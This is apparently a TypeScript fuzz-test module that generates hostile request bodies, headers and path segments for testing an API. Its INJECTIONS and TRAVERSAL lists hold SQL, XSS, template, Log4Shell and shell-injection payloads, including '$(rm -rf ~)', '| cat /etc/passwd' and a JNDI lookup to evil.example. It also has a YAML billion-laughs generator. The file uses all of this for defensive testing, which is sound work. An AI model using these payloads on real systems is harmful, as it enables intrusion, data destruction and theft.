// Generators of hostile request parts for the fuzzer: noise, broken UTF-8, lone surrogates, wrong types, traversal, bombs.
import { encode } from '@msgpack/msgpack'
import { Ajv } from 'ajv'
import fc from 'fast-check'
import { stringify as toYaml } from 'yaml'
import { PersonName } from '../../src/resources/people/schemas.ts'

/** Every Content-Type the API reads (docs/contract.md §4). */
export const BODY_TYPES = [
  'application/json', 'application/yaml', 'application/msgpack', 'application/vnd.msgpack',
  'application/x-www-form-urlencoded', 'application/merge-patch+json'
] as const

/** Content-Types the API must refuse, or parameters it cannot honour. */
export const WRONG_TYPES = [
  'text/plain', 'text/csv', 'text/html', 'application/xml', 'multipart/form-data; boundary=x',
  'application/octet-stream', 'application/x-protobuf', 'application/json; charset=iso-8859-1',
  'application/yaml; charset=utf-16', 'application/json; charset="utf-7"', 'application', '/', ';;;',
  'application/json/extra', 'image/png', '*/*'
] as const

// The punctuation of every format, so noise reaches deep into each parser.
// No member names the schemas know (email, name, capabilities, enabled),
// so no noise can ever be a valid body.
const TOKENS = [
  '{', '}', '[', ']', '"', "'", ':', ',', ' ', '\n', '\t', '\r\n', '-', '- ', '&a ', '*a', '!!str ', '!!binary ', '<<: ',
  '? ', '|', '>', '#', '%', '%YAML 1.1\n', '---\n', '=', '&', '+', '\\', '\\u0000', '\\ud800', 'null', 'true', '1e999',
  '-0', 'a', 'comment', '__proto__', '💥', '\u0000', '\ufeff', '\u2028', '\u0085', '%C3%28', '%00', '\xc0'
]

function isJsonObject (body: Buffer): boolean {
  try {
    const value: unknown = JSON.parse(body.toString('utf8'))
    return typeof value === 'object' && value !== null && !Array.isArray(value)
  } catch {
    return false
  }
}

/**
 * Bodies that no route accepts: random bytes, format tokens, random text.
 * A JSON object could be a valid merge patch (`{}`), so those are left out.
 */
export const noise: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 2048 }).map(bytes => Buffer.from(bytes)),
  fc.string({ unit: fc.constantFrom(...TOKENS), maxLength: 200 }).map(text => Buffer.from(text, 'utf8')),
  fc.string({ unit: 'binary', maxLength: 300 }).map(text => Buffer.from(text, 'utf8'))
).filter(body => !isJsonObject(body))

/** Byte sequences that are not UTF-8: stray bytes, overlong forms, encoded surrogates, beyond U+10FFFF, cut short. */
export const INVALID_UTF8: readonly number[][] = [
  [0xff], [0xfe], [0x80], [0xc3, 0x28], [0xa0, 0xa1], [0xe2, 0x28, 0xa1], [0xe2, 0x82], [0xf0, 0x28, 0x8c, 0xbc],
  [0xf8, 0xa1, 0xa1, 0xa1, 0xa1], [0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xf4, 0x90, 0x80, 0x80]
]

export function percentEncode (bytes: readonly number[]): string {
  return bytes.map(byte => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('')
}

/** Plain text to put around the bad part, so it sits at the start, in the middle or at the end. */
export const plainText = fc.string({ unit: fc.constantFrom('a', 'b', ' ', 'é', '名', '1', '-'), maxLength: 12 })

// MessagePack strings written by hand, so they can hold bytes no encoder would write.
function msgpackString (bytes: Buffer): Buffer {
  return bytes.length < 32
    ? Buffer.concat([Buffer.from([0xa0 | bytes.length]), bytes])
    : Buffer.concat([Buffer.from([0xd9, bytes.length]), bytes])
}

export function msgpackMap (entries: ReadonlyArray<readonly [Buffer, Buffer]>): Buffer {
  return Buffer.concat([Buffer.from([0x80 | entries.length]), ...entries.flatMap(([key, value]) => [msgpackString(key), msgpackString(value)])])
}

export type Format = 'json' | 'yaml' | 'msgpack' | 'form'

export const CONTENT_TYPE: Record<Format, string> = {
  json: 'application/json',
  yaml: 'application/yaml',
  msgpack: 'application/msgpack',
  form: 'application/x-www-form-urlencoded'
}

/** A body in one format; forms flatten arrays into repeated fields and carry everything else as text. */
export function encodeBody (format: Format, value: unknown): Buffer {
  if (format === 'json') return Buffer.from(JSON.stringify(value), 'utf8')
  if (format === 'yaml') return Buffer.from(toYaml(value), 'utf8')
  if (format === 'msgpack') return Buffer.from(encode(value))
  const form = new URLSearchParams()
  for (const [key, field] of Object.entries(value as Record<string, unknown>)) {
    // An empty list still names its field, so an unknown member never vanishes on the way.
    const items: unknown[] = Array.isArray(field) && field.length === 0 ? [''] : [field].flat()
    for (const item of items) form.append(key, typeof item === 'object' && item !== null ? JSON.stringify(item) : String(item))
  }
  return Buffer.from(form.toString(), 'utf8')
}

/**
 * A person body whose `comment` (or a member name) holds bytes that are not
 * UTF-8, in the given format; everything around them is valid.
 */
export function bodyWithBadBytes (format: Format, inKey: boolean, text: readonly [string, number[], string]): Buffer {
  const [before, bad, after] = text
  const bytes = Buffer.concat([Buffer.from(before, 'utf8'), Buffer.from(bad), Buffer.from(after, 'utf8')])
  const join = (...parts: Array<string | Buffer>): Buffer => Buffer.concat(parts.map(part => typeof part === 'string' ? Buffer.from(part, 'utf8') : part))
  if (format === 'json') return inKey ? join('{"email":"a@example.com","', bytes, '":1}') : join('{"email":"a@example.com","comment":"', bytes, '"}')
  if (format === 'yaml') return inKey ? join('email: a@example.com\n"', bytes, '": 1\n') : join('email: a@example.com\ncomment: "', bytes, '"\n')
  if (format === 'form') return inKey ? join('email=a%40example.com&', bytes, '=1') : join('email=a%40example.com&comment=', bytes)
  const key = inKey ? bytes : Buffer.from('comment')
  return msgpackMap([[Buffer.from('email'), Buffer.from('a@example.com')], [key, inKey ? Buffer.from('x') : bytes]])
}

/** JSON's `\uXXXX` escape of a lone surrogate, or of a pair in the wrong order. */
export const brokenSurrogate = fc.oneof(
  fc.integer({ min: 0xd800, max: 0xdfff }).map(unit => `\\u${unit.toString(16)}`),
  fc.tuple(fc.integer({ min: 0xdc00, max: 0xdfff }), fc.integer({ min: 0xd800, max: 0xdbff }))
    .map(([low, high]) => `\\u${low.toString(16)}\\u${high.toString(16)}`),
  fc.integer({ min: 0xd800, max: 0xdbff }).map(high => `\\u${high.toString(16)}x`)
)

/** Values of every JSON type but text, and never null (a null comment is valid). */
export const notText = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 })
)

/** Member names the schemas do not know, the ones that prey on JavaScript objects first. */
export const unknownMember = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'id', 'admin', 'createdAt', 'updatedAt', 'EMAIL', 'email ', 'hash', 'key', 'revokedAt'),
  fc.string({ maxLength: 10 })
).filter(member => !['name', 'email', 'comment'].includes(member))

// `${…}` here is text that only looks like a template; it must be stored, never evaluated.
/* eslint-disable no-template-curly-in-string */

/** Strings that look like attacks on a database, a template, a shell or a browser. */
export const INJECTIONS = [
  "'; DROP TABLE people; --", "Robert'); DROP TABLE Students;--", '" OR "1"="1', "' OR 1=1 --", "admin' --",
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '${{7*7}}', '{{7*7}}',
  '#{7*7}', '<%= 7*7 %>', '${jndi:ldap://evil.example/a}', '..\\..\\etc\\passwd', '....\\\\....\\\\etc', '%2e%2e%5c',
  '%00', '$(rm -rf ~)', '`id`', '| cat /etc/passwd', '=cmd|" /C calc"!A0', '+SUM(1;2)', '@SUM(1+1)', '-1+1',
  '\\x00', '\\u0000', 'null', 'undefined', 'NaN', '__proto__', 'constructor', '{"$gt": ""}', '[$ne]', '*', '%', '_',
  '\\', "'", '"', '?', '#', '&', '~', ';', '%s%s%s%n', '😀😀😀', '\u202etxt.exe', 'A\u0301', 'ﷺ', ' \t'
]

// The very schema the route validates names with (docs/contract.md §5), applied after NFC as the route does.
const isNameSchemaValid = new Ajv({ strict: false }).compile(PersonName)

export function isValidName (name: string): boolean {
  return isNameSchemaValid(name.normalize('NFC'))
}

/** Valid names made of injection strings, stored and read back literally. */
export const injectionName = fc.tuple(fc.constantFrom(...INJECTIONS), fc.constantFrom(...INJECTIONS), fc.nat(999))
  .map(([first, second, serial]) => `${first}${second}-${serial}`)
  .filter(isValidName)

/** Valid emails with the same characters in their local part. */
export const injectionEmail = fc.constantFrom("'OR'1'='1", '<script>', '${{7*7}}', 'a;DROP', '"quoted"', '{{7*7}}', '%00', '`id`', '=1+1')
  .map(local => `${local}@example.com`)
/* eslint-enable no-template-curly-in-string */

/** Comments of up to 1000 code points: injection strings, tabs and newlines allowed. */
export const injectionComment = fc.oneof(
  fc.constant(null),
  fc.array(fc.constantFrom(...INJECTIONS, '\n', '\t', '\r\n'), { maxLength: 12 }).map(parts => parts.join(''))
)

/** A YAML "billion laughs": each level names the one below `width` times. */
export function yamlBomb (levels: number, width: number): string {
  const lines = ['l0: &l0 "lol"']
  for (let level = 1; level <= levels; level++) {
    lines.push(`l${level}: &l${level} [${Array.from({ length: width }, () => `*l${level - 1}`).join(', ')}]`)
  }
  return lines.join('\n') + '\n'
}

/** Segments that try to climb out of a path, hide a NUL, or smuggle a separator. */
export const TRAVERSAL = [
  '..', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '..%2F', '..%2f', '%2e%2e%2f', '..%5C', '..\\', '%00', '%2F', '%252e%252e',
  '%c0%ae%c0%ae', ';', '%3B', '~', 'etc', 'passwd', 'admin', 'keys', 'people', 'v1', 'v2', 'x', '.', '%2e', '', '%u002e', '%', '%G1'
]

/** Accept headers: many ranges, odd parameters and q-values, names of nothing. */
export const acceptHeader = fc.array(
  fc.tuple(
    fc.constantFrom('application/json', 'application/yaml', 'text/csv', 'application/msgpack', 'application/vnd.msgpack', 'text/html',
      '*/*', 'application/*', 'text/*', 'image/png', 'application/xml', 'x/y', '*', '', ';', 'application/json;', 'a/b/c'),
    fc.constantFrom('', ';q=0', ';q=0.5', ';q=1', ';q=1.001', ';q=-1', ';q=abc', ';charset=utf-8', ';level=1', ';a=b;c=d', ';q', ';=')
  ).map(([range, parameter]) => range + parameter),
  { minLength: 1, maxLength: 400 }
).map(ranges => ranges.join(','))
